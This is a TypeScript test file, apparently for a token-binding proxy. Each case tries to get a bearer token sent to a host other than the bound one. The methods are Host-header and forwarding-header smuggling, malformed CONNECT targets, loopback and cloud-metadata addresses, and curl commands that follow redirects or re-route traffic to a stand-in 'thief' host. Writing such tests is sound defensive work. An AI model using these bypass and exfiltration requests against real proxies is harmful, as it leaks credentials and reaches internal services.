// The value at a host that it is not for.
import { ANYTHING, ask, base64, bearer, http, type Kind, nameOf, pick, portOf, type Scene } from './attempt.js';

const REACHED = /seen /;
const NOT_ALLOWED = /is not among the hosts/;
const curl = ({ token }: Scene, words: string) => ({ shell: `curl -sS -m 15 -H 'Authorization: Bearer ${token}' ${words}` }); // prettier-ignore

export const HOSTS: Kind[] = [
  { name: 'another host', shows: REACHED, make: ({ thief, other, token }, n) => ask(pick([thief, other], n), { lines: [bearer(token)] }) }, // prettier-ignore
  {
    name: 'a host that may not be reached',
    shows: NOT_ALLOWED,
    make: ({ token }, n) => ask(pick(['evil.test:443', 'allowed.test:443', 'wild.test:443', 'a.b.wild.test:1', 'xallowed.test:443', 'allowed.test.evil.test:443'], n), { lines: [bearer(token)] }), // prettier-ignore
  },
  {
    name: 'another name in the handshake',
    make: ({ bound, thief, token }, n) => ask(bound, { lines: [bearer(token)] }, { tls: { name: pick([nameOf(thief), 'bound.wild.test', 'evil.test', 'allowed.test.evil.test', 'localhost'], n) } }), // prettier-ignore
  },
  {
    name: 'another host in the head',
    shows: /HTTP\/1\.1 4(00|21)/,
    make: ({ bound, basic, thief, token }, n) => ask(bound, { host: pick([thief, basic, 'evil.test', `${nameOf(bound)}:1`, `${bound}@${thief}`, `${nameOf(bound)}.`, null, ''], n), lines: [bearer(token)] }), // prettier-ignore
  },
  {
    name: 'two hosts in the head',
    shows: /HTTP\/1\.1 4(00|21)/,
    make: ({ bound, thief, token }, n) => ask(bound, { lines: [`${pick(['Host', 'host', 'HOST'], n)}: ${pick([thief, bound], n)}`, bearer(token)] }), // prettier-ignore
  },
  {
    name: 'headers that name another host',
    shows: REACHED,
    make: ({ bound, thief, token }, n) => ask(bound, { lines: [`${pick(['X-Forwarded-Host', 'X-Host', 'Forwarded', 'X-Original-URL', 'X-Rewrite-URL'], n)}: ${pick([thief, `host=${thief}`, `https://${thief}/`], n)}`, bearer(token)] }), // prettier-ignore
  },
  {
    name: 'the bound name over a connection to another host',
    make: ({ bound, other, thief, token }, n) => ask(pick([other, thief], n), { host: bound, lines: [bearer(token)] }, { tls: { name: nameOf(bound) } }), // prettier-ignore
  },
  {
    name: 'CONNECT to an address',
    make: ({ bound, token }, n) => ask(`${pick(['127.0.0.1', '127.0.0.3', '[::1]', '[::ffff:127.0.0.1]', '0x7f.1', '2130706433', '0177.0.0.1', '169.254.169.254', '10.0.0.1', '0.0.0.0', 'localhost'], n)}:${portOf(bound)}`, { host: bound, lines: [bearer(token)] }, { tls: { name: nameOf(bound) } }), // prettier-ignore
  },
  {
    name: 'CONNECT, spelled otherwise',
    shows: ANYTHING,
    make: ({ bound, thief, token }, n) => {
      const [host, port] = [nameOf(bound), portOf(bound)];
      const place = pick([`ALLOWED.test:${port}`, `${host}.:${port}`, `${host}@${thief}`, `${thief}#${bound}`, `%61llowed.test:${port}`, `${host}:0${port}`, `${host}: ${port}`, `${host}\t:${port}`, `${host}:${port}/`, `${host}%00.${thief}`, `\xef\xbd\x81llowed.test:${port}`], n); // prettier-ignore
      return { to: bound, head: `CONNECT ${place} HTTP/1.1\r\nHost: ${place}\r\n\r\n`, send: [http(bound, { lines: [bearer(token)] })] }; // prettier-ignore
    },
  },
  {
    name: 'placeholders for the proxy itself',
    make: ({ bound, thief, token }, n) => ({ to: bound, head: `CONNECT ${pick([bound, thief], n)} HTTP/1.1\r\nHost: ${token}\r\nProxy-Authorization: Basic ${base64(`x:${token}`)}\r\n${bearer(token)}\r\n\r\n`, send: [http(pick([bound, thief], n), { lines: [`Proxy-Authorization: Bearer ${token}`] })] }), // prettier-ignore
  },
  {
    name: 'CONNECT within a tunnel',
    make: ({ bound, thief, token }, n) => ({ to: bound, send: [`CONNECT ${pick([thief, bound], n)} HTTP/1.1\r\nHost: ${bound}\r\n${bearer(token)}\r\n\r\n`, http(thief, { lines: [bearer(token)] })] }), // prettier-ignore
  },
  {
    name: 'another port of the bound host',
    make: ({ bound, plain, token }, n) => pick([ask(plain, { lines: [bearer(token)] }, { tls: null }), ask(`${nameOf(bound)}:22`, { lines: [bearer(token)] })], n), // prettier-ignore
  },
  {
    name: 'plain HTTP',
    make: ({ bound, plain, token }, n) => ({ to: null, send: [http(pick([plain, bound], n), { target: `http://${pick([plain, bound], n)}/a`, lines: [bearer(token)] })] }), // prettier-ignore
  },
  {
    name: 'plain HTTP in the tunnel',
    make: ({ bound, token }, n) =>
      ask(bound, { lines: [bearer(token)], method: pick(['GET', 'POST'], n) }, { tls: null }),
  },
  {
    name: 'a name that leads elsewhere',
    make: ({ rebound, token }, n) => ask(pick(rebound, n), { lines: [bearer(token)] }),
  },
  {
    name: 'a redirect to another host',
    shows: /seen thief|seen allowed.test/,
    make: (scene, n) => curl(scene, `-L --location-trusted 'https://${scene.bound}/to/${pick([301, 302, 303, 307, 308], n)}?https%3A%2F%2F${scene.thief}%2Fa'`), // prettier-ignore
  },
  {
    name: 'a redirect to plain HTTP, and back',
    make: (scene, n) => curl(scene, `-L --location-trusted --proto-redir =http,https 'https://${scene.bound}/to/${pick([301, 307, 308], n)}?http%3A%2F%2F${pick([scene.plain, scene.thief], n)}%2Fa'`), // prettier-ignore
  },
  {
    name: 'a redirect that carries the value',
    make: (scene, n) => curl(scene, `-L --location-trusted 'https://${scene.bound}/echo/${n % 22}/location'`),
  },
  {
    name: 'a program that is told to go another way',
    make: (scene, n) => curl(scene, `${pick([`--resolve ${scene.bound}:127.0.0.3`, `--connect-to ::${scene.thief}`, `--noproxy '*'`, `-x http://${scene.thief}`, `--haproxy-protocol`], n)} -k https://${scene.bound}/a`), // prettier-ignore
  },
];
